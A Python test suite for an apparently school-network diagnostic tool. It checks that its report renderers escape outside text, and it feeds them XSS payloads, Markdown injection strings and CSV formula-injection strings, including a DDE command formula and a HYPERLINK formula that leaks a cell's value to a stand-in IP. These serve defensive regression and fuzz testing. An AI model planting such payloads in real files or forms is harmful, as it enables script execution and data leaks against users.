"""Text from outside through every report renderer (terminal excepted): shown as written, never obeyed.

School and classroom names come from site files, ids and error texts from servers, and ``report``
and ``batch`` render result files anyone can hand over. None of it may become a spreadsheet
formula (CSV, opened in Excel: the files carry a BOM for it), Markdown or HTML markup, or a
traceback. Each renderer gets hostile strings in named places first (a regression test per
finding), then Hypothesis puts them in every string field of real results.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import random
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from giga_netcheck.core.board_summary import Table
from giga_netcheck.core.i18n import Messages
from giga_netcheck.core.models import RunResult, from_dict
from giga_netcheck.core.results import upgrade
from giga_netcheck.render import csvdoc, dashboard, html as html_render, jsondoc, markdown, svg
from giga_netcheck.render.common import FORMULA_START, csv_cell

RESULTS = Path(__file__).parent / "golden" / "results"
NAMES = sorted(p.stem for p in RESULTS.glob("*.json"))

SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</title><script>alert(1)</script>",
    "<!-- x",
    "]]><script>",
    "[click](javascript:alert(1))",
    "![x](http://203.0.113.9/x.png)",
    "[ref]: javascript:alert(1)",
    "`code` ``",
    "*bold* _em_ ~~gone~~",
    "# heading",
    "1. item",
    "- item",
    "---",
    "a | b | c",
    "line\nbreak\r\n<script>",
    "&lt;script&gt; &amp;",
    '=HYPERLINK("http://203.0.113.9","x")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "{school}",
    "{0}",
    "%s%n",
    "\\",
    "\x00\x1b[31m",
    "[/bogus]",
    ":x:",
    "学校<script>",
]

_DATA = {name: json.loads((RESULTS / f"{name}.json").read_text(encoding="utf-8")) for name in NAMES}


def build(data: dict[str, Any]) -> RunResult:
    result: RunResult = from_dict(RunResult, upgrade(copy.deepcopy(data), "test.json"))
    return result


def poison(data: Any, payloads: list[str], rnd: random.Random, share: float) -> Any:
    """``data`` with each string (values and the keys of free-form maps) replaced by a payload at ``share``."""
    if isinstance(data, str):
        return rnd.choice(payloads) if rnd.random() < share else data
    if isinstance(data, list):
        return [poison(x, payloads, rnd, share) for x in data]
    if isinstance(data, dict):
        return {k: poison(v, payloads, rnd, share) for k, v in data.items()}
    return data


# ----------------------------------------------------------------------------- invariants


def csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def assert_no_formula(text: str) -> None:
    """No cell a spreadsheet would run: a cell starting (after blanks) with a formula character is a number."""
    for row in csv_rows(text):
        for cell in row:
            head = cell.lstrip(" \t\r\n\u3000")[:1] or cell[:1]
            if head in FORMULA_START or cell[:1] in FORMULA_START:
                assert _NUMBER.fullmatch(cell), f"formula cell {cell!r}"


def assert_markdown_inert(text: str) -> None:
    """No raw HTML (no '<' before a tag name), no link or image syntax, no line a value could start."""
    assert "<script" not in text.lower()
    assert not re.search(r"<[A-Za-z/!?]", text), re.search(r"<[A-Za-z/!?].{0,30}", text)
    for hit in re.finditer(r"(\\*)\](?=[(\[:])", text):  # a ']' closing a link, an image or a reference definition
        assert len(hit.group(1)) % 2 == 1, text[max(0, hit.start() - 30) : hit.end() + 30]


class Tags(HTMLParser):
    ALLOWED_TAGS = {
        "html", "head", "meta", "title", "style", "body", "main", "header", "footer", "section", "article", "h1", "h2",
        "h3", "p", "br", "wbr", "ul", "ol", "li", "strong", "b", "span", "div", "code", "table", "thead", "tbody", "tr",
        "th", "td", "figure", "figcaption", "svg", "g", "rect", "line", "text", "tspan", "circle", "polyline", "path",
    }  # fmt: skip

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.ALLOWED_TAGS:
            self.bad.append(f"<{tag}>")
        for k, v in attrs:
            if k.startswith("on") or k in ("src", "href", "xlink:href", "action", "formaction", "style", "srcdoc"):
                self.bad.append(f"<{tag} {k}={v!r}>")

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"<!--{data}-->")


def assert_html_inert(text: str) -> None:
    assert "<script" not in text.lower()
    page = Tags()
    page.feed(text)
    page.close()
    assert not page.bad, page.bad[:5]
    assert text.count("<!DOCTYPE html>") == 1 and text.rstrip().endswith("</html>")


def render_all(r: RunResult) -> None:
    """Every report renderer, both languages, with its invariant."""
    for lang in ("en", "ja"):
        m = Messages(lang)
        assert_no_formula(csvdoc.render(r, m))
        assert_markdown_inert(markdown.render(r, m))
        assert_html_inert(html_render.render(r, m))
        json.loads(jsondoc.render(r, m))


# -------------------------------------------------------------- named places (regressions)


def test_csv_cells_that_would_be_formulas_are_text_and_numbers_stay_numbers():
    data = copy.deepcopy(_DATA["dns-failure"])
    data["school"]["name"] = '=HYPERLINK("http://203.0.113.9/?"&A1,"open")'
    data["school"]["id"] = "@SUM(1+1)"
    data["run_id"] = "+1+1"
    checks = data["checks"]
    checks[0]["classroom"] = "-2+3"
    checks[0]["unit"] = "\t=1+1"
    checks[1]["classroom"] = "\r=1+1"
    checks[1]["measured"] = -5.5  # a real negative number stays a number
    checks[2]["classroom"] = "＝1+1"
    r = build(data)
    text = csvdoc.render(r, Messages("en"))
    assert_no_formula(text)
    header, *rows = csv_rows(text)
    col = {name: i for i, name in enumerate(csvdoc.COLUMNS)}
    assert rows[0][col["school_name"]] == "'" + data["school"]["name"]
    assert rows[0][col["school_id"]] == "'@SUM(1+1)" and rows[0][col["run_id"]] == "'+1+1"
    assert rows[0][col["classroom"]] == "'-2+3" and rows[0][col["unit"]] == "'\t=1+1"
    assert rows[1][col["classroom"]] == "'\r=1+1" and rows[2][col["classroom"]] == "'＝1+1"
    assert rows[1][col["measured"]] == "-5.5"


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a number, kept
        ("-3.5", "-3.5"),
        ("-1e5", "-1e5"),
        ("-3.5 ms", "'-3.5 ms"),
        ("@x", "'@x"),
        ("  =x", "'  =x"),
        ("\t", "'\t"),
        ("a=1", "a=1"),
        ("", ""),
        (-2.5, -2.5),
        (7, 7),
        (None, None),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_board_csv_exports_neutralise_formulas(tmp_path):
    from giga_netcheck.board import batch  # the board's own writer (batch tables as CSV)

    table = Table(["board", "school_name", "value", "share"], [("=cmd|'/C calc'!A0", "+SUM(A1)", -3.25, "-0.5"), ("@x", "ok", 2, "x")])
    text = batch.write_csv(table, tmp_path / "t.csv").read_text(encoding="utf-8")
    assert_no_formula(text)
    rows = csv_rows(text)
    assert rows[1][:2] == ["'=cmd|'/C calc'!A0", "'+SUM(A1)"] and rows[1][2:] == ["-3.25", "-0.5"]
    assert rows[2][0] == "'@x"


def test_markdown_shows_script_links_and_markup_from_outside_as_text():
    data = copy.deepcopy(_DATA["failed-probes"])
    data["school"]["name"] = SCRIPT
    data["school"]["id"] = "[x](javascript:alert(1))"
    data["checks"][0]["classroom"] = "<img src=x onerror=alert(1)>"
    data["probes"][0]["probe"] = "identify:<b>srv</b>"  # a server id
    data["probes"][0]["reason"] = "refused\n# injected heading\n<script>x</script>"
    data["probes"][0].pop("reason_key", None)
    data["causes"][0]["id"] = "`x` <iframe>"
    r = build(data)
    for lang in ("en", "ja"):
        text = markdown.render(r, Messages(lang))
        assert_markdown_inert(text)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
        assert "[x\\](javascript:alert(1))" in text
        assert "\n# injected" not in text and "refused # injected heading" in text


def test_markdown_keeps_a_mix_spec_from_becoming_emphasis():
    data = copy.deepcopy(_DATA["healthy"])
    data["profile"] = "web-apps*30+video-lesson*5"
    text = markdown.render(build(data), Messages("en"))
    assert "web-apps\\*30+video-lesson\\*5" in text


@pytest.mark.parametrize("name", ["proxy-ipv6-path", "failed-probes", "uplink-capacity"])
def test_every_renderer_with_one_hostile_string_everywhere(name):
    for payload in (SCRIPT, "=1+1", "[x](javascript:alert(1))", "line\n<script>", '"><svg onload=alert(1)>'):
        render_all(build(poison(_DATA[name], [payload], random.Random(0), 1.0)))


def test_svg_escapes_every_label():
    chart = svg.BarChart(
        (svg.Group(SCRIPT, (svg.Bar(1.0, '"><x', SCRIPT, SCRIPT, SCRIPT, '"><x'),), SCRIPT),),
        SCRIPT,
        (svg.Legend('"><x', SCRIPT),),
        (svg.RefLine(1.0, SCRIPT),),
        SCRIPT,
        chart_id='"><x',
    )
    out = svg.bar_chart(chart)
    out += svg.line_chart(svg.LineChart(((1.0, 2.0),), SCRIPT, SCRIPT, (1.0, 2.0), SCRIPT, SCRIPT, '"><x'))
    out += svg.path_diagram([svg.Node("device", SCRIPT, (SCRIPT,))], [SCRIPT], suspect_label=SCRIPT, title=SCRIPT, absent_label=SCRIPT)
    assert "<script" not in out and '"><x' not in out
    page = Tags()
    page.feed(out)
    assert not page.bad


def _board_tables(text: str) -> dict[str, Table]:
    """The tables the dashboard reads, every text cell ``text`` (the figures plausible)."""
    return {
        "board_summary": Table(
            ["board", "schools", "runs", "schools_compliant", "schools_assessed", "share_compliant", "national_share_2024", "failed_share"],
            [(text, 1, 1, 0, 1, 0.0, 0.5, 0.0)],
        ),
        "board_ranking": Table(
            ["board", "worst_rank", "school_name", "school_id", "mext_compliant", "latest_status", "top_cause"],
            [(text, 1, text, '"><x', 0, '"><x', text)],
        ),
        "board_causes": Table(["board", "cause_id", "share_of_runs", "schools"], [(text, text, 0.5, 1)]),
        "board_weekly": Table(
            ["board", "week", "runs", "schools", "lesson_down_mbps_p50", "down_mbps_p50"], [(text, text, 1, 1, None, 1.0)]
        ),
        "context_breakdown": Table(
            ["board", "field", "value", "schools", "schools_compliant", "schools_assessed"], [(text, text, text, 1, 0, 1)]
        ),
    }


def render_board(text: str, tmp_path: Path) -> None:
    """The dashboard and the board's CSV exports with ``text`` in every text cell, with their invariants."""
    from giga_netcheck.board import batch  # the board's own CSV writer
    from giga_netcheck.core.board_summary import Inputs, Skipped, Summary

    tables = _board_tables(text)
    inputs = Inputs(skipped=[Skipped(text, text)])
    for lang in ("en", "ja"):
        assert_html_inert(dashboard.render(Summary(tables, inputs, generated_at=text), Messages(lang)))
    for name, table in tables.items():
        assert_no_formula(batch.write_csv(table, tmp_path / f"{name}.csv").read_text(encoding="utf-8"))


def test_dashboard_and_board_csv_escape_board_school_and_skipped_text(tmp_path):
    render_board(SCRIPT, tmp_path)
    render_board("=1+1", tmp_path)


# ------------------------------------------------------------------------------- fuzzing

FUZZ = settings(max_examples=40, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
hostile_text = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40), st.text(alphabet="<>&\"'`*_[]()!|#=+-@\t\r\n\\{}:", max_size=20))


@FUZZ
@given(
    name=st.sampled_from(NAMES),
    payloads=st.lists(hostile_text, min_size=1, max_size=5),
    seed=st.integers(0, 2**32),
    share=st.sampled_from([0.1, 0.5, 1.0]),
)
def test_fuzz_report_renderers_with_hostile_text_in_every_string(name, payloads, seed, share):
    render_all(build(poison(_DATA[name], payloads, random.Random(seed), share)))


json_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(-(10**6), 10**6), st.floats(allow_nan=False, allow_infinity=False), hostile_text),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(hostile_text, inner, max_size=3)),
    max_leaves=8,
)
HOST_KEYS = ["hostname", "os_name", "os", "os_version", "interface", "link_speed_mbps", "wifi", "proxy", "resolvers", "stub_resolver"]
HOST_KEYS += ["gateway_ipv4", "gateway_ipv6", "python"]


@FUZZ
@given(name=st.sampled_from(NAMES), host=st.dictionaries(st.sampled_from(HOST_KEYS), json_values, max_size=6))
def test_fuzz_report_renderers_with_any_json_in_the_host_record(name, host):
    """``host`` is free-form in the schema (whatever the OS told), so any JSON value must render."""
    data = copy.deepcopy(_DATA[name])
    data["host"] = {**data.get("host", {}), **host}
    render_all(build(data))


@FUZZ
@given(text=hostile_text)
def test_fuzz_board_dashboard_and_csv_with_hostile_text(tmp_path_factory, text):
    render_board(text, tmp_path_factory.mktemp("board"))


@FUZZ
@given(cells=st.lists(st.one_of(hostile_text, st.floats(allow_nan=False, allow_infinity=False), st.integers(-(10**9), 10**9)), max_size=8))
def test_fuzz_csv_cells_keep_numbers_and_never_start_a_formula(cells):
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow([csv_cell(c) for c in cells])
    assert_no_formula("\ufeff" + buf.getvalue())
    [row] = csv_rows("\ufeff" + buf.getvalue()) or [[]]
    for cell, written in zip(cells, row):
        if isinstance(cell, (int, float)):
            assert float(written) == cell  # a number stays a number, negative ones too
        elif cell[:1] not in FORMULA_START and cell.lstrip(" \t\r\n\u3000")[:1] not in FORMULA_START:
            assert written == cell  # other text is untouched
